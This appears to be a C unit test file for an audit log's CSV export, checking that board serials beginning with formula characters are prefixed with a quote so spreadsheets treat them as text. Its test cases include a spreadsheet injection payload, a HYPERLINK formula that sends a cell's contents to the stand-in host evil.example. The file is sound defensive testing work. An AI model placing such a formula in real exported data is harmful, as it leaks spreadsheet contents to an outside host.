/*
 * test_audit_csv.c: the CSV export against spreadsheet formula injection.
 * A board picks its own serial; a serial such as =HYPERLINK(...) must
 * reach a spreadsheet as text, so every text cell starting with =, +, -,
 * @, TAB or CR (and, to keep the export reversible, ') gets a leading '.
 * Real SQLite files in a fresh temporary directory.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <cmocka.h>

#include "db/audit.h"
#include "common/err.h"
#include "common/log.h"

struct fx {
	char dir[64];
	char path[128];
	struct audit *a;
};

static int
setup(void **state)
{
	struct fx *f = calloc(1, sizeof(*f));

	if (f == NULL)
		return -1;
	snprintf(f->dir, sizeof(f->dir), "/tmp/kl-auditcsv-XXXXXX");
	if (mkdtemp(f->dir) == NULL) {
		free(f);
		return -1;
	}
	snprintf(f->path, sizeof(f->path), "%s/audit.db", f->dir);
	*state = f;
	return 0;
}

static int
teardown(void **state)
{
	struct fx *f = *state;
	static const char *const suffix[] = { "", "-wal", "-shm",
	    "-journal" };
	char p[160];
	size_t i;

	audit_close(f->a);
	for (i = 0; i < sizeof(suffix) / sizeof(suffix[0]); i++) {
		snprintf(p, sizeof(p), "%s%s", f->path, suffix[i]);
		(void)unlink(p);
	}
	(void)rmdir(f->dir);
	free(f);
	return 0;
}

/* Stored serial -> how its cell must read in the CSV, followed by the
 * device ID so each is found in its own column. */
static const struct {
	const char *serial, *cell;
} cases[] = {
	{ "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
	    "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"" },
	{ "=1+2", "'=1+2" },
	{ "+1", "'+1" },
	{ "-1", "'-1" },
	{ "@x", "'@x" },
	{ "@SUM(1,2)", "\"'@SUM(1,2)\"" },
	{ "\tTAB", "'\tTAB" },
	{ "\rCR", "\"'\rCR\"" },
	{ "'quoted", "''quoted" },
	{ "BS-1", "BS-1" },
	{ "1-2", "1-2" },
};

#define NCASES (sizeof(cases) / sizeof(cases[0]))

static char *
export_csv(struct audit *a)
{
	char *text = NULL;
	size_t len = 0;
	FILE *fp;

	fp = open_memstream(&text, &len);
	assert_non_null(fp);
	assert_int_equal(audit_export(a, fp, AUDIT_FMT_CSV), 0);
	assert_int_equal(fclose(fp), 0);
	assert_non_null(text);
	return text;
}

static void
append_serials(struct audit *a)
{
	struct audit_event ev;
	char dev[NCASES][32];
	size_t i;

	for (i = 0; i < NCASES; i++) {
		memset(&ev, 0, sizeof(ev));
		snprintf(dev[i], sizeof(dev[i]), "dev-%02zu", i);
		ev.station = "station-01";
		ev.operator_name = "op";
		ev.slot = (int)i + 1;
		ev.board_serial = cases[i].serial;
		ev.device_id = dev[i];
		ev.step = "identify";
		ev.outcome = "ok";
		assert_int_equal(audit_append(a, &ev, NULL), 0);
	}
}

static void
test_formula_cells_neutralised(void **state)
{
	struct fx *f = *state;
	char want[256], *text;
	size_t i;

	assert_int_equal(audit_open(&f->a, f->path), 0);
	append_serials(f->a);
	text = export_csv(f->a);
	for (i = 0; i < NCASES; i++) {
		snprintf(want, sizeof(want), ",%zu,%s,dev-%02zu,", i + 1,
		    cases[i].cell, i);
		if (strstr(text, want) == NULL)
			fail_msg("serial %zu: no cell %s in\n%s", i, want,
			    text);
	}
	/* No cell anywhere starts a formula: not after a separator, not
	 * after an opening quote. */
	for (i = 0; i < 4; i++) {
		char bad[3] = { ',', "=+-@"[i], '\0' };
		char badq[4] = { ',', '"', "=+-@"[i], '\0' };

		assert_null(strstr(text, bad));
		assert_null(strstr(text, badq));
	}
	assert_null(strstr(text, ",\t"));
	free(text);
}

/* Integers are numbers, not formulas: a slot stays a bare number. */
static void
test_numbers_untouched(void **state)
{
	struct fx *f = *state;
	char *text;

	assert_int_equal(audit_open(&f->a, f->path), 0);
	append_serials(f->a);
	text = export_csv(f->a);
	assert_non_null(strstr(text, "\r\n1,"));
	assert_non_null(strstr(text, ",op,4,'-1,dev-03,"));
	free(text);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test_setup_teardown(test_formula_cells_neutralised,
		    setup, teardown),
		cmocka_unit_test_setup_teardown(test_numbers_untouched, setup,
		    teardown),
	};

	log_init("test_audit_csv", LOG_LVL_WARN);
	return cmocka_run_group_tests(tests, NULL, NULL);
}
